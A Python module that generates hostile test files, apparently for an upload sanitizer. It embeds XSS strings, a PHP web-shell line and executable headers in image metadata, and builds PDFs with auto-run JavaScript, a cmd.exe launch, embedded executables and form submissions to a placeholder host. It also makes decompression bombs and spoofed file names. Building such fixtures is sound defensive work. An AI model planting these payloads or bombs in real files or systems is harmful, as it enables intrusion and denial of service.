"""Files that are more, or other, than the picture or scan they pretend to be; each is made here, none is kept."""

import io
import struct
import zlib
from collections.abc import Callable, Iterable, Iterator
from functools import cache
from random import Random

from PIL import Image

PAYLOADS = [
    b"<script>alert(document.cookie)</script>",
    b"<html><body onload=alert(1)>x</body></html>",
    b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    b"<?php system($_GET[1]); ?>",
    b"#!/bin/sh\nid\n",
    b"MZ\x90\x00This program cannot be run in DOS mode.",
    b"PK\x03\x04\x14\x00\x00\x00evil.jar",
    b"GPSLatitude 31.2304 GPSLongitude 121.4737",
]
# GPS, the maker's notes and a comment, as a telephone writes them.
GPS = {1: "N", 2: (31.0, 13.0, 49.4), 3: "E", 4: (121.0, 28.0, 25.3)}
PDF_ACTS: dict[str, bytes] = {
    "JavaScript on opening": b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "JavaScript by name": b"/Names<</JavaScript<</Names[(a) 9 0 R]>>>>",
    "launch": b"/OpenAction<</S/Launch/F(cmd.exe)>>",
    "an embedded file": b"/Names<</EmbeddedFiles<</Names[(a.exe) 9 0 R]>>>>",
    "a file attached to a page": b"/AF[<</Type/Filespec/EF<</F<</Type/EmbeddedFile>>>>>>]",
    "a form that sends itself": b"/AA<</O<</S/SubmitForm/F(http://a.example)>>>>",
    "a form of another kind": b"/AcroForm<</XFA 9 0 R>>",
    "data brought in": b"/AA<</O<</S/ImportData/F(http://a.example/x.fdf)>>>>",
    "another document": b"/OpenAction<</S/GoToR/F(//a.example/share/x.pdf)>>",
    "a film": b"/Annots[<</Subtype/RichMedia>>]",
    "a rendition": b"/AA<</O<</S/Rendition/R<<>>>>>>",
    "a link that runs": b"/A<</S/URI/URI(javascript:alert\\(1\\))>>",
}
HARMLESS = b"/Lang(zh-CN)/ViewerPreferences<</DisplayDocTitle true>>"


@cache
def photo(kind: str = "JPEG", size: tuple[int, int] = (320, 240)) -> bytes:
    """A picture of a telephone: place, time, thumbnail and comment beside the points."""
    picture, out = Image.radial_gradient("L").resize(size).convert("RGB"), io.BytesIO()
    exif = Image.Exif()
    exif[0x010F], exif[0x0132], exif[0x9C9C] = "Maker", "2026:07:08 09:00:00", "secret".encode("utf-16-le")
    exif.get_ifd(0x8825).update(GPS)
    extra: dict[str, object] = {"comment": PAYLOADS[7], "xmp": PAYLOADS[0]} if kind == "JPEG" else {}
    picture.save(out, kind, exif=exif, **extra)
    return out.getvalue()


def segment(marker: int, data: bytes) -> bytes:
    """A segment of a JPEG: FE a comment, E1 Exif or XMP, E2 a colour profile, ED what editors write."""
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def with_segment(data: bytes, marker: int, payload: bytes) -> bytes:
    """A JPEG with one more segment at its beginning."""
    return data[:2] + segment(marker, payload) + data[2:]


def chunk(name: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def with_chunk(data: bytes, name: bytes, payload: bytes) -> bytes:
    """A PNG with one more chunk behind its first."""
    return data[:33] + chunk(name, payload) + data[33:]


def png_of(width: int, height: int, lines: bytes) -> bytes:
    """A PNG that says it is so large and holds what it holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def many_scans(count: int, size: tuple[int, int] = (4000, 3000)) -> bytes:
    """A progressive JPEG that is gone over again and again: its last scan, written many times."""
    out = io.BytesIO()
    Image.new("RGB", size, "grey").save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last = data.rfind(b"\xff\xda")
    return data[:last] + data[last:-2] * count + data[-2:]


def pdf(inside: bytes, packed: str = "", before: bytes = b"", spelled: bool = False) -> bytes:
    """A PDF whose catalogue holds something: written plainly, or in a packed stream of objects."""
    inside = _spelled(inside) if spelled else inside
    catalogue = b"<</Type/Catalog/Pages 2 0 R" + inside + b">>"
    pages = b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n"
    body = b"1 0 obj" + catalogue + b"endobj\n" if not packed else _stream(b"1 0 " + catalogue, packed)
    return before + b"%PDF-1.5\n" + pages + body + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def _spelled(text: bytes) -> bytes:
    return text.replace(b"/J", b"/#4a").replace(b"aunch", b"#61unch").replace(b"mbed", b"#6dbed")


def _stream(objects: bytes, how: str) -> bytes:
    packed = zlib.compress(objects)
    about = {
        "flate": b"/Filter/FlateDecode",
        "list": b"/Filter [ /FlateDecode ]",
        "hex": b"/Filter[/ASCIIHexDecode/FlateDecode]",
        "predictor": b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1>>",
        "in words": b"/Filter/FlateDecode/Note(endobj obj<<>>)",
        "cut": b"/Filter/FlateDecode",
        "false end": b"/Filter/FlateDecode",
        "raw": b"",
        "bomb": b"/Filter/FlateDecode",
        "locked": b"/Filter/FlateDecode",
    }[how]
    data = {
        **{"hex": packed.hex().encode() + b">", "raw": objects, "cut": packed[: len(packed) // 2]},
        "false end": _stored(objects[:9] + b"endstream" + objects[9:]),
        **{"bomb": zlib.compress(bytes(300_000_000), 9) if how == "bomb" else b"", "locked": packed[::-1]},
    }.get(how, packed)
    head = b"9 0 obj<</Type/ObjStm/N 1/First 4/Length %d%s>>stream\n" % (len(data), about)
    return head + data + b"\nendstream endobj\n"


def _stored(data: bytes) -> bytes:
    """Packed without making it smaller, so that the words stand in the file as they are."""
    packing = zlib.compressobj(0)
    return packing.compress(data) + packing.flush()


def pictures(chance: Random) -> Iterator[tuple[str, bytes, bytes]]:
    """Endless pictures with something beside their points: name, bytes, and what must not come out."""
    while True:
        payload = chance.choice(PAYLOADS) + str(chance.random()).encode()
        way = chance.choice(list(_PLACES))
        yield chance.choice(_NAMES), _PLACES[way](payload), payload


_NAMES = ["照片.jpg", "照片.jpg.exe", "page.html", "x.svg", "..\\..\\x.php", "\u202egpj.exe", "a.pdf", "x.jpg\x00.js"]
_PLACES: dict[str, Callable[[bytes], bytes]] = {
    "comment": lambda payload: with_segment(photo(), 0xFE, payload),
    "exif": lambda payload: with_segment(photo(), 0xE1, b"Exif\0\0" + payload),
    "xmp": lambda payload: with_segment(photo(), 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + payload),
    "profile": lambda payload: with_segment(photo(), 0xE2, b"ICC_PROFILE\0\x01\x01" + payload),
    "editor": lambda payload: with_segment(photo(), 0xED, b"Photoshop 3.0\0" + payload),
    "other segment": lambda payload: with_segment(photo(), 0xEF, payload),
    "behind a JPEG": lambda payload: photo() + payload,
    "before a JPEG": lambda payload: payload + photo(),
    "text of a PNG": lambda payload: with_chunk(photo("PNG"), b"tEXt", b"comment\0" + payload),
    "packed text of a PNG": lambda payload: with_chunk(photo("PNG"), b"zTXt", b"comment\0\0" + zlib.compress(payload)),
    "chunk of a PNG": lambda payload: with_chunk(photo("PNG"), b"eXIf", payload),
    "behind a PNG": lambda payload: photo("PNG") + payload,
    "behind a WEBP": lambda payload: photo("WEBP") + payload,
    "in a WEBP": lambda payload: photo("WEBP") + b"EXIF" + struct.pack("<I", len(payload)) + payload,
    "cut": lambda payload: photo()[:-200] + payload,
    "a web page": lambda payload: payload,
    "a drawing": lambda payload: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'>" + payload + b"</svg>",
    "a film": lambda payload: b"GIF89a\x01\0\x01\0\0\0\0;" + payload,
    "another format": lambda payload: b"II*\0\x08\0\0\0" + payload,
    "astronomy": lambda payload: b"SIMPLE  =                    T" + payload,
}


def bombs() -> dict[str, bytes]:
    """Small files that would become large or take long."""
    empty = zlib.compress(bytes(40_000_000), 9)
    return {
        "huge sides": png_of(60_000, 60_000, zlib.compress(b"\0")),
        "huge sides with points": png_of(20_000, 20_000, empty),
        "one line of a billion": png_of(2**30, 1, zlib.compress(b"\0")),
        "no sides": png_of(0, 0, zlib.compress(b"")),
        "many scans": many_scans(400),
        "many scans of a small one": many_scans(5_000, (400, 300)),
        "packed text": with_chunk(photo("PNG"), b"zTXt", b"x\0\0" + zlib.compress(bytes(200_000_000), 9)),
        "many texts": photo("PNG")[:33] + chunk(b"tEXt", b"a\0" + bytes(1000)) * 9_000 + photo("PNG")[33:],
        "as many points as are taken": _largest("PNG"),
        "as many points as are taken in a photo": _largest("JPEG"),
        "packed objects": pdf(b"", "bomb"),
        "thousands of packed objects": b"%PDF-1.5\n" + _stream(b"1 0 <<>>", "flate") * 60_000,
        "thousands of beginnings": b"%PDF-1.5\n" + b"1 0 obj<</Type/ObjStm" * 300_000,
        "nothing but numbers": b"%PDF-1.5\n" + b"#41" * 3_000_000,
    }


@cache
def _largest(kind: str) -> bytes:
    out = io.BytesIO()
    mode = "RGBA" if kind == "PNG" else "RGB"
    Image.new(mode, (6000, 5000), "grey").save(out, kind, **({"progressive": True} if kind == "JPEG" else {}))
    return out.getvalue()


def hostile_pdfs() -> Iterable[tuple[str, bytes]]:
    """PDFs that act or hide, in every way of writing them."""
    for act, inside in PDF_ACTS.items():
        yield act, pdf(inside)
        yield f"{act}, spelled in numbers", pdf(inside, spelled=True)
        for how in ("flate", "list", "hex", "predictor", "in words", "cut", "false end", "raw", "locked"):
            yield f"{act}, packed ({how})", pdf(inside, how)


def harmless_pdfs() -> Iterable[tuple[str, bytes]]:
    """PDFs as scanners and banks write them."""
    yield "plain", pdf(HARMLESS)
    yield "packed", pdf(HARMLESS, "flate")
    yield "packed with a list of one", pdf(HARMLESS, "list")
